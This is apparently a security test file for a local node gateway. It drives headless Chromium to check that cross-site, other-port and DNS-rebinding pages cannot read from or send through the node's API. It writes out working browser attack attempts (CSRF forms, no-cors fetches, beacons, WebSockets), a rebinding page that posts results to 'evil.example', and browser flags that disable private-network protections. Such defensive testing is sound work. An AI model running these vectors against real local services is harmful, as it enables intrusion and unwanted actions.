import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { delimiter, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { encodeEnvelope, type Relay } from '../../src/actor/index.ts'
import { requirement } from '../../src/testing/index.ts'
import { type Gateway, startGateway } from '../support/gateway.ts'

const NAMES = ['chromium', 'chromium-browser', 'google-chrome']

const browser = NAMES.flatMap((name) =>
  (process.env['PATH'] ?? '').split(delimiter).map((directory) => join(directory, name))
).find(existsSync)

const needs = await requirement('chromium', async () =>
  browser === undefined ? { available: false, reason: `none of ${NAMES.join(', ')} is installed` } : { available: true }
)

/** What a page tries: each gives a word about what came of it. `NODE` is where the node listens, `MESSAGE` a sealed message. */
const ATTEMPTS = `
  const post = { method: 'POST', body: MESSAGE }
  const text = async (answer) => (await answer).text()
  const attempts = {
    read: () => text(fetch(NODE + '/api/v1/actor/handle')),
    send: () => text(fetch(NODE + '/api/v1/actor/send', { ...post, headers: { 'Content-Type': 'application/json' } })),
    plainSend: () => text(fetch(NODE + '/api/v1/actor/send', { ...post, headers: { 'Content-Type': 'text/plain' } })),
    blindSend: () => fetch(NODE + '/api/v1/actor/send', { ...post, mode: 'no-cors' }).then(({ type }) => 'no word: ' + type),
    blindRead: () => fetch(NODE + '/api/v1/actor/handle', { mode: 'no-cors' }).then(({ type }) => 'no word: ' + type),
    beacon: async () => 'no word: ' + navigator.sendBeacon(NODE + '/api/v1/actor/send', MESSAGE),
    events: () => text(fetch(NODE + '/api/v1/events', post)),
    form: () => new Promise((resolve) => {
      const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { name: 'target' }))
      frame.onload = () => resolve('no word: loaded')
      const form = document.body.appendChild(document.createElement('form'))
      Object.assign(form, { method: 'post', enctype: 'text/plain', target: 'target', action: NODE + '/api/v1/actor/send' })
      // a form writes name=value: the message is cut at a sign of equality, and comes together again
      const at = MESSAGE.indexOf('=')
      form.appendChild(Object.assign(document.createElement('textarea'), { name: MESSAGE.slice(0, at), value: MESSAGE.slice(at + 1) }))
      form.submit()
    }),
    image: () => new Promise((resolve) => {
      const image = new Image()
      image.onload = () => resolve('loaded')
      image.onerror = () => resolve('no word: failed')
      image.src = NODE + '/api/v1/actor/handle'
    }),
    script: () => new Promise((resolve) => {
      const script = document.createElement('script')
      script.onload = () => resolve('no word: loaded')
      script.onerror = () => resolve('no word: failed')
      script.src = NODE + '/api/v1/actor/handle'
      document.head.appendChild(script)
    }),
    eventSource: () => new Promise((resolve) => {
      const source = new EventSource(NODE + '/api/v1/events')
      source.onopen = () => resolve('opened')
      source.onerror = () => resolve('no word: failed')
    }),
    socket: () => new Promise((resolve) => {
      const socket = new WebSocket(NODE.replace('http', 'ws') + '/api/v1/actor/send')
      socket.onopen = () => resolve('opened')
      socket.onerror = () => resolve('no word: failed')
    })
  }
`

/** Runs the attempts and tells them to the page's own server. */
const REPORT = `
  Promise.all(Object.entries(attempts).map(async ([name, attempt]) => [name, await attempt().catch((error) => 'no word: ' + error)]))
    .then((outcomes) => navigator.sendBeacon('/outcomes', JSON.stringify(Object.fromEntries(outcomes))))
`

type Outcomes = Readonly<Record<string, string>>

describe.skipIf(!needs.available)(needs.title('in a real browser'), () => {
  let directory = ''
  let gateway: Gateway
  let delivered: string[]
  const closers: (() => unknown)[] = []

  beforeEach(() => {
    directory = mkdtempSync(join(tmpdir(), 'dms-browser-'))
    delivered = []
  })

  afterEach(async () => {
    for (const close of closers.splice(0).reverse()) await close()
    rmSync(directory, { recursive: true, force: true, maxRetries: 5 })
  })

  /** A node that notes every message which it would transport. */
  async function startNode(port = 0): Promise<Gateway> {
    gateway = await startGateway({ tcp: { host: '127.0.0.1', port } })
    const { near, api } = gateway
    await api.stop()
    const relay: Relay = {
      async relaySend(envelope) {
        delivered.push(envelope.behavior)
      },
      relayInvoke: near.relayInvoke,
      relayBroadcast: near.relayBroadcast
    }
    const other = await startGateway({ tcp: { host: '127.0.0.1', port: gateway.tcp().port }, relay, handle: near.root.handle })
    closers.push(
      () => gateway.stop(),
      () => other.stop()
    )
    return other
  }

  async function message(): Promise<string> {
    const envelope = await gateway.session.compose({ kind: 'send', behavior: '/test/echo', payload: 'from a page' })
    return encodeEnvelope(envelope)
  }

  /** The server of a page; resolves with what its page reports. */
  async function servePage(
    page: () => Promise<string>,
    port = 0
  ): Promise<{ readonly server: Server; readonly port: number; readonly outcomes: Promise<Outcomes> }> {
    let report: (outcomes: Outcomes) => void = () => undefined
    const outcomes = new Promise<Outcomes>((resolve) => {
      report = resolve
    })
    const server = createServer((incoming, outgoing) => {
      if (incoming.url === '/outcomes') {
        const chunks: Buffer[] = []
        incoming.on('data', (chunk: Buffer) => chunks.push(chunk))
        incoming.on('end', () => {
          outgoing.end()
          report(JSON.parse(Buffer.concat(chunks).toString()) as Outcomes)
        })
        return
      }
      page().then(
        (script) => outgoing.setHeader('Content-Type', 'text/html').end(`<body><script>${script}</script>`),
        (error: unknown) => outgoing.destroy(error as Error)
      )
    })
    server.listen(port, '127.0.0.1')
    await once(server, 'listening')
    closers.push(() => {
      server.closeAllConnections()
      server.close()
    })
    return { server, port: (server.address() as AddressInfo).port, outcomes }
  }

  /** Opens a page in a browser of its own, for which names lead where `rules` say. */
  function open(url: string, rules: string): void {
    const args = [
      '--headless=new',
      '--no-sandbox', // it runs as root, in a container
      '--disable-gpu',
      '--disable-dev-shm-usage',
      '--disable-background-networking',
      '--no-first-run',
      `--user-data-dir=${join(directory, 'profile')}`,
      `--host-resolver-rules=${rules}`,
      // Without it the browser would ask a person first; the node must not rely on that.
      '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,BlockInsecurePrivateNetworkRequests',
      url
    ]
    const child: ChildProcess = spawn(browser ?? '', args, {
      stdio: 'ignore',
      detached: true,
      env: { PATH: process.env['PATH'], HOME: directory }
    })
    const closed = once(child, 'close')
    closers.push(async () => {
      if (child.pid !== undefined && child.exitCode === null) process.kill(-child.pid, 'SIGKILL')
      await closed
    })
  }

  const attack = async (node: string): Promise<string> =>
    `const NODE = ${JSON.stringify(node)}; const MESSAGE = ${JSON.stringify(await message())}; ${ATTEMPTS} ${REPORT}`

  function expectNothing(outcomes: Outcomes): void {
    expect(Object.keys(outcomes).length).toBe(12)
    expect(Object.entries(outcomes).filter(([, outcome]) => !outcome.startsWith('no word: '))).toEqual([])
    expect(delivered).toEqual([])
  }

  test.each([
    ['another site', 'evil.example', 'localhost'],
    ['another port of this machine', 'localhost', 'localhost'],
    ['another port of the same address', '127.0.0.1', '127.0.0.1'],
    ['a site that uses a name of its own for this machine', 'evil.example', 'rebound.example']
  ])('a page of %s can have the node do nothing, and learns nothing', async (_what, site, target) => {
    const node = await startNode()
    const page = await servePage(() => attack(`http://${target}:${node.tcp().port}`))
    open(`http://${site}:${page.port}/`, 'MAP *.example 127.0.0.1')
    expectNothing(await page.outcomes)
  })

  test('a page whose name was made to lead to the node after it was loaded can do no more', async () => {
    const node = await startNode()
    const { port } = node.tcp()
    const sealed = JSON.stringify(await message())
    await node.api.stop()
    const report = await servePage(async () => '')
    const page = await servePage(
      async () => `const NODE = location.origin; const MESSAGE = ${sealed}; ${ATTEMPTS}
      const isNode = () => fetch('/health').then(({ status }) => status === 403, () => false)
      const wait = async () => { while (!(await isNode())) await new Promise((resolve) => setTimeout(resolve, 50)) }
      wait().then(() => Promise.all(Object.entries(attempts).map(async ([name, attempt]) => [name, await attempt().catch((error) => 'no word: ' + error)])))
        .then((outcomes) => fetch('http://evil.example:${report.port}/outcomes', { method: 'POST', mode: 'no-cors', body: JSON.stringify(Object.fromEntries(outcomes)) }))`,
      port
    )
    const isRunning = new Promise<void>((resolve) => {
      page.server.on('request', ({ url }) => {
        if (url === '/health') resolve()
      })
    })
    open(`http://evil.example:${port}/`, 'MAP *.example 127.0.0.1')
    await isRunning
    page.server.closeAllConnections()
    await new Promise((resolve) => page.server.close(resolve))
    await node.api.start()
    const outcomes = await report.outcomes
    expect(delivered).toEqual([])
    // It is of the same origin now, so it may read what the node says: that it does not belong there.
    const told = Object.entries(outcomes).filter(([, outcome]) => !outcome.startsWith('no word: '))
    expect(told.filter(([, outcome]) => !outcome.includes('does not name this node'))).toEqual([])
    expect(told.length).toBeGreaterThan(2)
  })

  test('the front end of the appliance works', async () => {
    const node = await startNode()
    const page = await servePage(
      async () => `const NODE = 'http://localhost:${node.tcp().port}'; const MESSAGE = ${JSON.stringify(await message())}; ${ATTEMPTS}
      const all = attempts
      Promise.all(['read', 'send', 'plainSend'].map(async (name) => [name, await all[name]().catch(String)]))
        .then((outcomes) => navigator.sendBeacon('/outcomes', JSON.stringify(Object.fromEntries(outcomes))))`
    )
    open('http://localhost:9991/', `MAP localhost:9991 127.0.0.1:${page.port}`)
    const { read = '', ...sent } = await page.outcomes
    expect(JSON.parse(read)).toMatchObject({ id: { pub: gateway.near.root.handle.id } })
    expect(sent).toEqual({ send: '{"message":"message sent"}', plainSend: '{"message":"message sent"}' })
    expect(delivered).toEqual(['/test/echo', '/test/echo'])
  })
})
